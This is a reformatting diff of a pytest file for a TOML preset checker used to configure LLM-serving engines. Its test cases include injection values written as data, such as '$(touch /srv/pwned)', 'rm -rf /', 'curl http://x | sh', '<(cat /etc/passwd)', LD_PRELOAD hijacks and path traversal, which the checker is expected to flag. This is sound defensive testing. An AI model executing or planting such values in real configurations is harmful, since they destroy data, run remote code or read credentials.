@@ -1,4 +1,5 @@
-"""Tests of the preset check: findings name file, line, field and expected value, and no content breaks the check."""
+"""Tests of the preset check: findings name file, line, field and expected value, and no content
+breaks the check."""
 
 from __future__ import annotations
 
@@ -32,7 +33,10 @@ def line_of(text: str, start: str) -> int:
 def test_a_valid_file_has_no_findings(minimal: str) -> None:
     checked = check_text(minimal, file="presets/mine.toml")
     assert checked.findings == ()
-    assert checked.preset is not None and checked.preset.flags == {"max-num-seqs": 16, "gpu-memory-utilization": 0.9}
+    assert checked.preset is not None and checked.preset.flags == {
+        "max-num-seqs": 16,
+        "gpu-memory-utilization": 0.9,
+    }
 
 
 def test_invalid_toml_is_reported_with_line_and_column(minimal: str) -> None:
@@ -48,18 +52,66 @@ def test_invalid_toml_is_reported_with_line_and_column(minimal: str) -> None:
     [
         ("title =", "titel =", "preset.unknown-field", "titel", ["expected one of", "title"]),
         ("count = 1", "cuont = 1", "preset.unknown-field", "hardware.cuont", ["count"]),
-        ("count = 1", 'count = "1"', "preset.wrong-type", "hardware.count", ["a whole number", '"1"']),
-        ("count = 1", "count = 1.5", "preset.wrong-type", "hardware.count", ["a whole number", "1.5"]),
-        ("count = 1", "count = 0", "preset.wrong-value", "hardware.count", ["greater than or equal to 1", "found 0"]),
-        ('name = "vllm"', 'name = "vlm"', "preset.wrong-type", "engine.name", ['"sglang"', '"vlm"']),
+        (
+            "count = 1",
+            'count = "1"',
+            "preset.wrong-type",
+            "hardware.count",
+            ["a whole number", '"1"'],
+        ),
+        (
+            "count = 1",
+            "count = 1.5",
+            "preset.wrong-type",
+            "hardware.count",
+            ["a whole number", "1.5"],
+        ),
+        (
+            "count = 1",
+            "count = 0",
+            "preset.wrong-value",
+            "hardware.count",
+            ["greater than or equal to 1", "found 0"],
+        ),
+        (
+            'name = "vllm"',
+            'name = "vlm"',
+            "preset.wrong-type",
+            "engine.name",
+            ['"sglang"', '"vlm"'],
+        ),
         ('name = "vllm"', "name = 3", "preset.wrong-type", "engine.name", ["one of"]),
-        ('status = "untested"', "", "preset.missing-field", "provenance.status", ["one of", '"corrected"']),
+        (
+            'status = "untested"',
+            "",
+            "preset.missing-field",
+            "provenance.status",
+            ["one of", '"corrected"'],
+        ),
         ('id = "mine"', 'id = "My Preset"', "preset.wrong-value", "id", ["match pattern"]),
         ("schema = 1", "schema = 2", "preset.wrong-type", "schema", ["one of 1", "found 2"]),
         ('title = "Mine"', 'title = ""', "preset.wrong-value", "title", ["at least 1 character"]),
-        ("max-num-seqs = 16", "max-num-seqs = nan", "preset.wrong-value", "flags.max-num-seqs", ["nan"]),
-        ("max-num-seqs = 16", "max-num-seqs = 2026-11-21", "preset.wrong-type", "flags.max-num-seqs", ["date"]),
-        ("[provenance]", "[env]\nA = 1\n[provenance]", "preset.wrong-type", "env.A", ["text", "found 1"]),
+        (
+            "max-num-seqs = 16",
+            "max-num-seqs = nan",
+            "preset.wrong-value",
+            "flags.max-num-seqs",
+            ["nan"],
+        ),
+        (
+            "max-num-seqs = 16",
+            "max-num-seqs = 2026-11-21",
+            "preset.wrong-type",
+            "flags.max-num-seqs",
+            ["date"],
+        ),
+        (
+            "[provenance]",
+            "[env]\nA = 1\n[provenance]",
+            "preset.wrong-type",
+            "env.A",
+            ["text", "found 1"],
+        ),
     ],
 )
 def test_schema_errors_name_the_field_and_what_was_expected(
@@ -76,8 +128,12 @@ def test_schema_errors_name_the_field_and_what_was_expected(
 
 
 def test_a_misspelt_field_gets_the_nearest_name_as_a_suggestion(minimal: str) -> None:
-    assert one(minimal.replace("title =", "titel ="), "preset.unknown-field").fix == 'did you mean "title"?'
-    assert one(minimal.replace('"vllm"', '"vlm"'), "preset.wrong-type").fix == 'did you mean "vllm"?'
+    assert one(minimal.replace("title =", "titel ="), "preset.unknown-field").fix == (
+        'did you mean "title"?'
+    )
+    assert one(minimal.replace('"vllm"', '"vlm"'), "preset.wrong-type").fix == (
+        'did you mean "vllm"?'
+    )
     undefined = minimal.replace('id = "${model}"', 'id = "${modl}"')
     assert one(undefined, "preset.variable-undefined").fix == 'did you mean "model"?'
 
@@ -92,7 +148,9 @@ def test_lines_are_found_in_arrays_of_tables_and_after_multiline_values(minimal:
     finding = one(text, "preset.wrong-type")
     assert finding.field == "claims[1].verdict"
     assert finding.line == line_of(text, 'verdict = "maybe"')
-    wrong_count = text.replace("[hardware]\ncount = 1", "[hardware]\ncount = -1").replace("maybe", "false")
+    wrong_count = text.replace("[hardware]\ncount = 1", "[hardware]\ncount = -1").replace(
+        "maybe", "false"
+    )
     assert one(wrong_count, "preset.wrong-value").line == line_of(wrong_count, "count = -1")
 
 
@@ -108,11 +166,26 @@ def test_inline_tables_report_their_line(minimal: str) -> None:
         ("max-num-seqs = 16", 'x = "$(touch /srv/pwned)"', "preset.suspicious-value", Level.ERROR),
         ("max-num-seqs = 16", 'x = "`id`"', "preset.suspicious-value", Level.ERROR),
         ("max-num-seqs = 16", 'x = "a; rm -rf /"', "preset.suspicious-value", Level.ERROR),
-        ("max-num-seqs = 16", 'x = "a && curl http://x | sh"', "preset.suspicious-value", Level.ERROR),
+        (
+            "max-num-seqs = 16",
+            'x = "a && curl http://x | sh"',
+            "preset.suspicious-value",
+            Level.ERROR,
+        ),
         ("max-num-seqs = 16", 'x = "a|/bin/sh"', "preset.suspicious-value", Level.ERROR),
         ("max-num-seqs = 16", r'x = "a\nb"', "preset.suspicious-value", Level.ERROR),
-        ("max-num-seqs = 16", 'x = ["ok", "<(cat /etc/passwd)"]', "preset.suspicious-value", Level.ERROR),
-        ("max-num-seqs = 16", 'x = { deep = { er = "$(id)" } }', "preset.suspicious-value", Level.ERROR),
+        (
+            "max-num-seqs = 16",
+            'x = ["ok", "<(cat /etc/passwd)"]',
+            "preset.suspicious-value",
+            Level.ERROR,
+        ),
+        (
+            "max-num-seqs = 16",
+            'x = { deep = { er = "$(id)" } }',
+            "preset.suspicious-value",
+            Level.ERROR,
+        ),
         ("max-num-seqs = 16", 'x = "a ; b"', "preset.suspicious-value", Level.WARN),
         ("max-num-seqs = 16", 'x = "a > /etc/passwd"', "preset.suspicious-value", Level.WARN),
         ("max-num-seqs = 16", 'x = "$HOME/models"', "preset.not-expanded", Level.WARN),
@@ -125,19 +198,69 @@ def test_inline_tables_report_their_line(minimal: str) -> None:
         ("max-num-seqs = 16", 'api-key = "sk-1"', "preset.secret", Level.WARN),
         ('id = "${model}"', 'id = "${model} $(id)"', "preset.suspicious-value", Level.ERROR),
         ("[flags]", 'env.HF_TOKEN = "hf_x"\n[flags]', "preset.unknown-field", Level.ERROR),
-        ("[provenance]", '[env]\nLD_PRELOAD = "/srv/x.so"\n[provenance]', "preset.hijacks-execution", Level.WARN),
-        ("[provenance]", '[env]\nPYTHONPATH = "/srv"\n[provenance]', "preset.hijacks-execution", Level.WARN),
-        ("[provenance]", '[env]\nPATH = "/srv"\n[provenance]', "preset.hijacks-execution", Level.WARN),
-        ("[provenance]", '[env]\n"BASH_FUNC_x%%" = "1"\n[provenance]', "preset.env-name", Level.ERROR),
+        (
+            "[provenance]",
+            '[env]\nLD_PRELOAD = "/srv/x.so"\n[provenance]',
+            "preset.hijacks-execution",
+            Level.WARN,
+        ),
+        (
+            "[provenance]",
+            '[env]\nPYTHONPATH = "/srv"\n[provenance]',
+            "preset.hijacks-execution",
+            Level.WARN,
+        ),
+        (
+            "[provenance]",
+            '[env]\nPATH = "/srv"\n[provenance]',
+            "preset.hijacks-execution",
+            Level.WARN,
+        ),
+        (
+            "[provenance]",
+            '[env]\n"BASH_FUNC_x%%" = "1"\n[provenance]',
+            "preset.env-name",
+            Level.ERROR,
+        ),
         ("[provenance]", '[env]\n"A=B" = "1"\n[provenance]', "preset.env-name", Level.ERROR),
         ("[provenance]", '[env]\nHF_TOKEN = "hf_x"\n[provenance]', "preset.secret", Level.WARN),
-        ("[provenance]", '[env]\nHF_ENDPOINT = "http://x"\n[provenance]', "preset.points-elsewhere", Level.WARN),
-        ("[provenance]", '[env]\nA = "$(id)"\n[provenance]', "preset.suspicious-value", Level.ERROR),
-        ("  # which one", '\nexecutable = ["sh", "-c", "id"]', "preset.suspicious-executable", Level.ERROR),
-        ("  # which one", '\nexecutable = ["python", "-c", "x"]', "preset.suspicious-executable", Level.ERROR),
-        ("  # which one", '\nexecutable = ["nice", "/bin/bash"]', "preset.suspicious-executable", Level.ERROR),
+        (
+            "[provenance]",
+            '[env]\nHF_ENDPOINT = "http://x"\n[provenance]',
+            "preset.points-elsewhere",
+            Level.WARN,
+        ),
+        (
+            "[provenance]",
+            '[env]\nA = "$(id)"\n[provenance]',
+            "preset.suspicious-value",
+            Level.ERROR,
+        ),
+        (
+            "  # which one",
+            '\nexecutable = ["sh", "-c", "id"]',
+            "preset.suspicious-executable",
+            Level.ERROR,
+        ),
+        (
+            "  # which one",
+            '\nexecutable = ["python", "-c", "x"]',
+            "preset.suspicious-executable",
+            Level.ERROR,
+        ),
+        (
+            "  # which one",
+            '\nexecutable = ["nice", "/bin/bash"]',
+            "preset.suspicious-executable",
+            Level.ERROR,
+        ),
         ("  # which one", "\nexecutable = []", "preset.suspicious-executable", Level.ERROR),
-        ("  # which one", '\nexecutable = ["/opt/../bin/vllm"]', "preset.path-traversal", Level.ERROR),
+        (
+            "  # which one",
+            '\nexecutable = ["/opt/../bin/vllm"]',
+            "preset.path-traversal",
+            Level.ERROR,
+        ),
         ("  # which one", '\nexecutable = ["/srv/thing"]', "preset.unusual-executable", Level.WARN),
         ("  # which one", '\nworkdir = "../../etc"', "preset.path-traversal", Level.ERROR),
         (
@@ -146,12 +269,19 @@ def test_inline_tables_report_their_line(minimal: str) -> None:
             "preset.hijacks-execution",
             Level.WARN,
         ),
-        ('default = "Qwen/Qwen3-0.6B"', 'default = "$(id)"', "preset.suspicious-value", Level.ERROR),
+        (
+            'default = "Qwen/Qwen3-0.6B"',
+            'default = "$(id)"',
+            "preset.suspicious-value",
+            Level.ERROR,
+        ),
         ('title = "Mine"', r'title = "Mi\u001b[31mne"', "preset.control-character", Level.ERROR),
         ('title = "Mine"', r'title = "Mi\u202Ene"', "preset.control-character", Level.ERROR),
     ],
 )
-def test_dangerous_values_are_reported(minimal: str, old: str, new: str, code: str, level: Level) -> None:
+def test_dangerous_values_are_reported(
+    minimal: str, old: str, new: str, code: str, level: Level
+) -> None:
     assert old in minimal
     text = minimal.replace(old, new, 1)
     finding = one(text, code)
@@ -204,7 +334,11 @@ def test_id_baseline_and_file_name_are_compared(minimal: str, tmp_path: Path) ->
     path = tmp_path / "other.toml"
     path.write_text(minimal)
     (finding,) = check_file(path).findings
-    assert finding.code == "preset.file-name" and finding.level is Level.WARN and "mine.toml" in str(finding.fix)
+    assert (
+        finding.code == "preset.file-name"
+        and finding.level is Level.WARN
+        and "mine.toml" in str(finding.fix)
+    )
 
 
 def _fifo(path: Path) -> None:
@@ -230,7 +364,9 @@ def _fifo(path: Path) -> None:
         (lambda p: p.write_text("x = " + "9" * 5000), "preset.bad-toml"),
     ],
 )
-def test_files_that_are_not_presets_are_reported(tmp_path: Path, make: Callable[[Path], None], code: str) -> None:
+def test_files_that_are_not_presets_are_reported(
+    tmp_path: Path, make: Callable[[Path], None], code: str
+) -> None:
     path = tmp_path / "x.toml"
     make(path)
     checked = check_file(path)
@@ -272,7 +408,9 @@ def test_a_byte_order_mark_is_accepted(minimal: str, tmp_path: Path) -> None:
 def test_the_check_runs_nothing_and_writes_nothing(minimal: str, tmp_path: Path) -> None:
     marker = tmp_path / "pwned"
     path = tmp_path / "mine.toml"
-    path.write_text(minimal.replace("max-num-seqs = 16", f'x = "$(touch {marker})"\ny = "`touch {marker}`"'))
+    path.write_text(
+        minimal.replace("max-num-seqs = 16", f'x = "$(touch {marker})"\ny = "`touch {marker}`"')
+    )
     before = sorted(tmp_path.iterdir())
     assert check_file(path).findings
     assert sorted(tmp_path.iterdir()) == before
@@ -283,7 +421,9 @@ def test_the_check_runs_nothing_and_writes_nothing(minimal: str, tmp_path: Path)
 _scalars = st.booleans() | st.integers(-(2**63), 2**63 - 1) | st.floats() | st.text(max_size=20)
 _values = st.recursive(
     _scalars,
-    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
+    lambda inner: (
+        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
+    ),
     max_leaves=8,
 )
 _FIELDS = [
@@ -321,9 +461,13 @@ def test_checking_any_toml_document_returns_findings(document: dict[str, Any]) -
         assert finding.as_json()["file"] == "x.toml"
 
 
-@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(data=st.data())
-def test_checking_any_mutation_of_a_valid_file_returns_findings(minimal: str, data: st.DataObject) -> None:
+def test_checking_any_mutation_of_a_valid_file_returns_findings(
+    minimal: str, data: st.DataObject
+) -> None:
     text = minimal
     for _ in range(data.draw(st.integers(1, 4))):
         at = data.draw(st.integers(0, len(text)))
@@ -335,7 +479,9 @@ def test_checking_any_mutation_of_a_valid_file_returns_findings(minimal: str, da
     assert all(f.line is None or 1 <= f.line <= text.count("\n") + 1 for f in checked.findings)
 
 
-@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(data=st.binary(max_size=200))
 def test_checking_any_bytes_returns_findings(tmp_path: Path, data: bytes) -> None:
     path = tmp_path / "x.toml"
@@ -344,12 +490,16 @@ def test_checking_any_bytes_returns_findings(tmp_path: Path, data: bytes) -> Non
 
 
 def test_a_number_that_python_cannot_print_is_reported(minimal: str) -> None:
-    finding = one(minimal.replace("max-num-seqs = 16", f"max-num-seqs = 0x{'f' * 5000}"), "preset.bad-toml")
+    finding = one(
+        minimal.replace("max-num-seqs = 16", f"max-num-seqs = 0x{'f' * 5000}"), "preset.bad-toml"
+    )
     assert "64 bits" in finding.text
 
 
 def test_an_unknown_write_up_is_an_error_with_the_nearest_name(minimal: str) -> None:
-    text = minimal.replace('summary = "A small preset."', 'summary = "A small preset."\ndocuments = ["dgx-spark-vllm"]')
+    text = minimal.replace(
+        'summary = "A small preset."', 'summary = "A small preset."\ndocuments = ["dgx-spark-vllm"]'
+    )
     (finding,) = check_text(text).findings
     assert finding.code == "preset.unknown-document" and finding.line == 6
     assert finding.fix == 'did you mean "dgx-spark-vllm-diagnosis"?'
@@ -371,7 +521,15 @@ def test_an_unknown_write_up_is_an_error_with_the_nearest_name(minimal: str) -> 
         ("[[gpu_settings]]", f'governor = "{"x" * 40}"'),
     ],
 )
-def test_insane_values_of_what_apply_would_do_are_errors(minimal: str, table: str, line: str) -> None:
-    text = minimal.replace(table, f"{table}\n{line}") if table in minimal else f"{minimal}\n{table}\n{line}\n"
+def test_insane_values_of_what_apply_would_do_are_errors(
+    minimal: str, table: str, line: str
+) -> None:
+    text = (
+        minimal.replace(table, f"{table}\n{line}")
+        if table in minimal
+        else f"{minimal}\n{table}\n{line}\n"
+    )
     checked = check_text(text)
-    assert checked.preset is None and any(line.split()[0] in f"{f.flag} {f.text}" for f in checked.findings), checked
+    assert checked.preset is None and any(
+        line.split()[0] in f"{f.flag} {f.text}" for f in checked.findings
+    ), checked
